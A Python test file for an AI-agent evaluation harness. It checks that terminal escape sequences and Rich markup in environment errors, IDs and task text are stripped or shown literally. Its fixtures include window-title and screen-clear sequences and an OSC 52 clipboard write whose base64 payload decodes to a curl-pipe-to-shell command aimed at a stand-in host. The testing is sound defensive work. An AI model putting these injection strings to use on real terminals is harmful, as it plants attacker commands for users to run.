"""What reaches the operator's terminal: text from environments, libraries and imports is shown, never obeyed.

A library whose constructor and tools raise errors carrying a window-title sequence, an OSC 52 clipboard write,
a screen clear and Rich markup (balanced, unbalanced and a link) goes through the real commands in a
subprocess; the raw bytes of stdout and stderr hold none of the sequences, the markup shows literally, and each
command ends with its documented exit status instead of a crash.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import orjson
import pytest

from harness.console import markup_text, outside, terminal_text
from harness.library import write_seed_layout
from harness.results.metrics import read_results
from harness.sandbox import find_problems
from harness.schema import Check, Environment, ReferenceAction, Scenario
from harness.toolspec import derive_tools

REPO = Path(__file__).resolve().parents[3]

TITLE = "\x1b]0;pwned\x07"
CLIPBOARD_PAYLOAD = "Y3VybCBldmlsLmV4YW1wbGV8c2g="
CLIPBOARD = f"\x1b]52;c;{CLIPBOARD_PAYLOAD}\x07"
CLEAR = "\x1b[2J"
MARKUP = "[bold red]x[/] [/nope] [link=https://evil.example]click[/link]"
LOUD = f"loud {TITLE}{CLIPBOARD}{CLEAR}{MARKUP} end"
SHOWN = f"loud {MARKUP} end"
"""What an operator sees of ``LOUD``: the sequences gone whole, the markup as the characters it is."""

LOUD_CODE = f'''
LOUD = {LOUD!r}


class Loud:
    def __init__(self, init_config: dict):
        if init_config.get("explode"):
            raise ValueError(LOUD)
        self.counter = init_config.get("counter", 0)

    def bump(self) -> dict:
        """Increment the counter."""
        self.counter += 1
        return {{"success": True, "data": self.counter}}

    def shout(self) -> dict:
        """Fail with a loud message."""
        return {{"success": False, "error": LOUD}}

    def crash(self) -> dict:
        """Raise a loud error."""
        raise RuntimeError(LOUD)
'''

BUMPED = "def check(initial_state, final_state):\n    return final_state['counter'] == initial_state['counter'] + 1\n"


def loud_library(root: Path) -> Path:
    """One environment, a scenario its reference solves through loud tool errors, one whose state will not load."""
    assert not find_problems(LOUD_CODE), find_problems(LOUD_CODE)
    environment = Environment(
        id="loud.env-1",
        name=f"Loud {MARKUP}",
        summary=LOUD,
        class_name="Loud",
        code=LOUD_CODE,
        tools=derive_tools(LOUD_CODE, "Loud"),
    )
    checks = [Check(id="bumped", description=f"counter bumped {MARKUP} {TITLE}", source=BUMPED)]
    solvable = Scenario(
        id="loud-1",
        environment_id=environment.id,
        initial_state={"counter": 0},
        task=f"Bump the counter once. {MARKUP}",
        checks=checks,
        reference_actions=[
            ReferenceAction(name="shout", arguments={}),
            ReferenceAction(name="crash", arguments={}),
            ReferenceAction(name="bump", arguments={}),
        ],
    )
    exploding = solvable.model_copy(update={"id": "loud-2", "initial_state": {"explode": True, "counter": 0}})
    write_seed_layout([environment], [solvable, exploding], root)
    return root


def harness_bytes(*args: str, colour: bool = False, timeout: float = 300) -> subprocess.CompletedProcess[bytes]:
    """The real CLI in a subprocess; stdout and stderr as the raw bytes a terminal would receive. ``colour``
    makes Rich style its own output as it would on a terminal."""
    environment = {**os.environ, "PYTHONPATH": str(REPO), "COLUMNS": "200"}
    environment.pop("FORCE_COLOR", None)
    environment.pop("NO_COLOR", None)
    if colour:
        environment.update({"FORCE_COLOR": "1", "TERM": "xterm-256color"})
    return subprocess.run(
        [sys.executable, "-m", "harness.cli", *args], capture_output=True, env=environment, timeout=timeout
    )


QUOTED = [
    form.encode()
    for sequence in (TITLE, CLIPBOARD)
    for form in (repr(sequence)[1:-1], orjson.dumps(sequence).decode()[1:-1])
]
"""The sequences as Python or JSON quote them (``\\x1b]0;pwned\\x07``): characters a terminal shows, not obeys."""

RICH_COLOURS = re.compile(rb"\x1b\[[0-9;]*m")


def assert_nothing_obeyed(output: bytes) -> None:
    """None of the hostile sequences reached the terminal, and their payloads appear only quoted, as text."""
    for sequence in (TITLE, CLIPBOARD, CLEAR, "\x1b]", "\x07"):
        assert sequence.encode() not in output, sequence
    unquoted = output
    for form in QUOTED:
        unquoted = unquoted.replace(form, b"")
    for payload in ("pwned", CLIPBOARD_PAYLOAD):
        assert payload.encode() not in unquoted, payload


def visible(output: bytes) -> str:
    """Coloured output as the characters it shows: Rich's colour codes (and only those) taken out."""
    return RICH_COLOURS.sub(b"", output).decode()


def assert_plain(result: subprocess.CompletedProcess[bytes]) -> None:
    """Without colour nothing at all is an escape sequence or a control character but newlines."""
    for output in (result.stdout, result.stderr):
        assert_nothing_obeyed(output)
        assert b"\x1b" not in output
        assert not [byte for byte in output if byte < 0x20 and byte not in b"\n"], output


def test_terminal_text_removes_every_control_character() -> None:
    controls = [chr(code) for code in [*range(0x00, 0x20), *range(0x7F, 0xA0)]]
    string_introducers = "\x90\x98\x9d\x9e\x9f"  # DCS, SOS, OSC, PM, APC: unterminated, they take the rest
    for control in controls:
        rest = "" if control in string_introducers else "é"
        kept = control in "\n\t"
        assert terminal_text(f"a{control}é") == (f"a{control}é" if kept else f"a{rest}"), repr(control)
        breaks_line = control in "\n\t\r\v\f"  # on one line, a line break is a space
        assert terminal_text(f"a{control}é", multiline=False) == ("a é" if breaks_line else f"a{rest}"), repr(control)
    assert terminal_text("line\r\nnext\rover") == "line\nnextover"
    every = "".join(controls)
    assert terminal_text(every) == "\t\n"
    assert terminal_text(every, multiline=False).strip() == ""


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        (f"a{TITLE}b", "ab"),
        (f"a{CLIPBOARD}b", "ab"),
        ("a\x1b]52;c;cGF5bG9hZA==\x1b\\b", "ab"),  # OSC ended by ST instead of BEL
        ("a\x1b]0;no end", "a"),  # unterminated: it would swallow the rest on a terminal too
        ("a\x1b]0;title\x1b[31mb", "ab"),  # an ESC ends the string and starts a new sequence
        (f"a{CLEAR}b\x1b[1;31mc\x1b[?25ld", "abcd"),
        ("a\x1bPq#0;2;0;0;0\x1b\\b", "ab"),  # DCS (sixel)
        ("a\x1b_payload\x07b\x1b^pm\x1b\\c\x1bXsos\x1b\\d", "abcd"),  # APC, PM, SOS
        ("a\x9b2Jb\x9d0;pwned\x9cc\x90dcs\x9cd", "abcd"),  # the 8-bit introducers
        ("a\x1bcb\x1b7c\x1b(Bd", "abcd"),  # reset, save cursor, character set
        ("trailing escape\x1b", "trailing escape"),
    ],
)
def test_terminal_text_removes_sequences_whole(hostile: str, shown: str) -> None:
    assert terminal_text(hostile) == shown


def test_markup_in_outside_text_is_shown_as_written() -> None:
    from rich.console import Console

    console = Console(width=200, color_system=None, file=None, record=True)
    with console.capture() as captured:
        console.print(f"[bold]note:[/bold] {markup_text(LOUD)}")
        console.print(outside(LOUD, "red"))
    assert captured.get().splitlines() == [f"note: {SHOWN}", SHOWN]
    assert markup_text("ends in a backslash\\") != "ends in a backslash\\"
    assert terminal_text(LOUD, limit=10) == SHOWN[:10] + f" … ({len(SHOWN) - 10} more characters)"


def test_the_consoles_clean_what_a_command_forgot_to() -> None:
    """Outside text printed raw (a ``Text`` or a string in a table in a panel, a markup string, a log message)
    still reaches the terminal without its sequences, and stray markup in a string is shown rather than raised."""
    import io
    import logging

    from rich.panel import Panel
    from rich.table import Table
    from rich.text import Text

    from harness.console import TerminalConsole, TerminalLogHandler

    buffer = io.StringIO()
    console = TerminalConsole(file=buffer, width=300, force_terminal=True, color_system="truecolor")
    table = Table(title=LOUD)
    table.add_column(LOUD)
    table.add_row(Text(LOUD, style="red"), LOUD)
    console.print(Panel(table, title=Text(LOUD)))
    console.print(f"[bold]error:[/bold] {LOUD}")  # the unbalanced [/nope] would make Rich raise
    logger = logging.getLogger("tests.terminal")
    logger.addHandler(TerminalLogHandler(console=console, show_path=False))
    logger.propagate = False
    logger.warning("a tool said %s", LOUD)
    output = buffer.getvalue().encode()
    assert b"\x1b[" in output  # Rich's own colours
    assert_nothing_obeyed(output)
    # Markup that does not parse is shown as written, the project's own tags with it.
    assert "[bold]error:[/bold] loud [bold red]x[/] [/nope]" in visible(output)
    assert "a tool said loud [bold red]x[/] [/nope]" in visible(output)


def test_validate_shows_hostile_errors_as_text(tmp_path: Path) -> None:
    library = loud_library(tmp_path / "library")
    result = harness_bytes("validate", str(library), "--all")
    assert result.returncode == 1, result.stderr  # one scenario is invalid: its initial state does not load
    assert_plain(result)
    out = result.stdout.decode()
    assert "could not be instantiated: ValueError: loud [bold red]x[/] [/nope]" in out
    assert "[link=https://evil.example]click[/link] end" in out
    assert "reference call 2 (crash): RuntimeError: loud [bold red]x[/] [/nope]" in out
    assert "1 environments, 2 scenarios: 1 invalid" in out


@pytest.fixture(scope="module")
def loud_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, subprocess.CompletedProcess[bytes]]:
    """The oracle on both scenarios (the invalid one too), with Rich's colours on as on a terminal."""
    root = tmp_path_factory.mktemp("loud")
    library = loud_library(root / "library")
    run_dir = root / "run"
    args = ["run", "--agent", "oracle", "--envs", str(library), "--include-invalid", "--out", str(run_dir)]
    return run_dir, harness_bytes(*args, colour=True)


def test_run_summary_shows_hostile_causes_as_text(loud_run: tuple[Path, subprocess.CompletedProcess[bytes]]) -> None:
    run_dir, result = loud_run
    # exit 0: the episode whose environment does not load is a failure of that environment, scored, not a lost one
    assert result.returncode == 0, result.stderr
    assert b"\x1b[" in result.stdout  # Rich's own styling is there, so the checks below tell leaks from it
    assert_nothing_obeyed(result.stdout)
    assert_nothing_obeyed(result.stderr)
    out = visible(result.stdout)
    assert "could not be instantiated: ValueError: loud [bold red]x[/] [/nope] [link=https://evil.example]click" in out
    assert "environment failure ×1 (loud.env-1)" in out
    # the warning about the invalid scenario (the log handler wraps it to the terminal's width)
    assert "loud [bold red]x[/] [/nope]" in " ".join(visible(result.stderr).split())

    # What is written to disk keeps the exact text.
    results = {t.scenario_id: t for t in read_results(run_dir / "results.jsonl")}
    assert LOUD in (results["loud-2"].termination_detail or "")
    assert any(LOUD in str(message.get("content")) for message in results["loud-1"].messages)


def test_show_run_and_episodes_show_hostile_text_as_text(
    loud_run: tuple[Path, subprocess.CompletedProcess[bytes]],
) -> None:
    run_dir, _ = loud_run
    results = {t.scenario_id: t for t in read_results(run_dir / "results.jsonl")}

    summary = harness_bytes("show", str(run_dir))
    assert summary.returncode == 0, summary.stderr
    assert_plain(summary)
    assert results["loud-2"].episode_id in summary.stdout.decode()  # listed among the failed episodes

    solved = harness_bytes("show", str(run_dir), "--episode", results["loud-1"].episode_id)
    assert solved.returncode == 0, solved.stderr
    assert_plain(solved)
    shown = solved.stdout.decode()
    assert "Bump the counter once. [bold red]x[/] [/nope] [link=https://evil.example]click[/link]" in shown
    # The tools' errors, shown as the JSON observations the agent read (with the sequences in quoted form).
    assert '"error": "RuntimeError: loud ' in shown and '"error": "loud ' in shown
    assert shown.count("[bold red]x[/] [/nope] [link=https://evil.example]click[/link]") >= 4
    assert "counter bumped [bold red]x[/] [/nope]" in shown  # the check's description

    broken = harness_bytes("show", str(run_dir), "--episode", results["loud-2"].episode_id, colour=True)
    assert broken.returncode == 0, broken.stderr
    assert b"\x1b[" in broken.stdout
    assert_nothing_obeyed(broken.stdout)
    assert "ValueError: loud [bold red]x[/] [/nope]" in visible(broken.stdout)


def test_import_envscaler_shows_hostile_record_ids_as_text(tmp_path: Path) -> None:
    from tests.harness.importers.test_envscaler_import import ENV_CODE, TOOLS

    good = {
        "env_id": "env_1_rl",
        "env_class_name": "LoyaltyProgram",
        "environment_summary": LOUD,
        "env_class_code": ENV_CODE,
        "tools": orjson.dumps(TOOLS).decode(),
    }
    hostile = {**good, "env_id": f"env {LOUD}"}
    environments = tmp_path / "envs.json"
    environments.write_bytes(orjson.dumps([good, hostile]))
    out = tmp_path / "imported"

    result = harness_bytes("import", "envscaler", "--environments", str(environments), "--out", str(out))
    assert result.returncode == 0, result.stderr  # the good record was imported; the hostile one is skipped
    assert_plain(result)
    err = result.stderr.decode()
    assert "skipped environment env loud [bold red]x[/] [/nope] [link=https://evil.example]click[/link] end:" in err
    assert "Imported 1 environments and 0 scenarios" in result.stdout.decode()
    written = orjson.loads((out / "environments" / "env_1_rl.json").read_bytes())
    assert written["summary"] == LOUD  # the file keeps the exact text


def test_bad_input_is_one_plain_line(tmp_path: Path) -> None:
    result = harness_bytes("run", "--agent", "oracle", "--mode", LOUD, "--out", str(tmp_path / "run"))
    assert result.returncode == 2
    assert_plain(result)
    lines = result.stderr.decode().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: --mode "), lines
    assert "[bold red]x[/] [/nope]" in lines[0]
    assert not (tmp_path / "run").exists()


def test_leaderboard_shows_a_hostile_model_and_set_name_as_text(tmp_path: Path) -> None:
    from harness.schema import DatasetRef
    from tests.support.leaderboard_runs import make_trajectory, write_run

    run = write_run(
        tmp_path / "run",
        [make_trajectory("ep", model=f"model {LOUD}", assistant_text=LOUD)],
        dataset=DatasetRef(source=f"set {LOUD}", revision="rev1", fingerprint="a" * 16),
    )
    built = harness_bytes("leaderboard", "build", str(run), "--out", str(tmp_path / "board"), colour=True)
    assert built.returncode == 0, built.stderr
    assert b"\x1b[" in built.stdout
    assert_nothing_obeyed(built.stdout)
    assert_nothing_obeyed(built.stderr)
    board = visible(built.stdout)
    assert "model loud [bold red]x[/] [/nope]" in board and "set loud [bold red]x[/] [/nope]" in board

    shown = harness_bytes("show", str(run))
    assert shown.returncode == 0, shown.stderr
    assert_plain(shown)
    assert "model loud [bold red]x[/] [/nope] [link=https://evil.example]click[/link] end" in shown.stdout.decode()


def test_an_unprivileged_validate_shows_hostile_errors_as_text() -> None:
    import tempfile

    from tests.support.unprivileged import open_to_ordinary_user, run_as_ordinary_user

    # Not under pytest's tmp_path: another pytest session may close its parent (0700) at any moment.
    with tempfile.TemporaryDirectory(prefix="harness-terminal-") as folder:
        root = Path(folder)
        library = loud_library(root / "library")
        home = root / "home"
        home.mkdir()
        open_to_ordinary_user(root, home)
        finished = run_as_ordinary_user([sys.executable, "-m", "harness.cli", "validate", str(library)], home=home)
    assert finished.returncode == 1, finished.stderr  # the scenario whose state does not load is invalid
    assert_plain(subprocess.CompletedProcess(finished.args, 1, finished.stdout.encode(), finished.stderr.encode()))
    assert "could not be instantiated: ValueError: loud [bold red]x[/] [/nope]" in finished.stdout
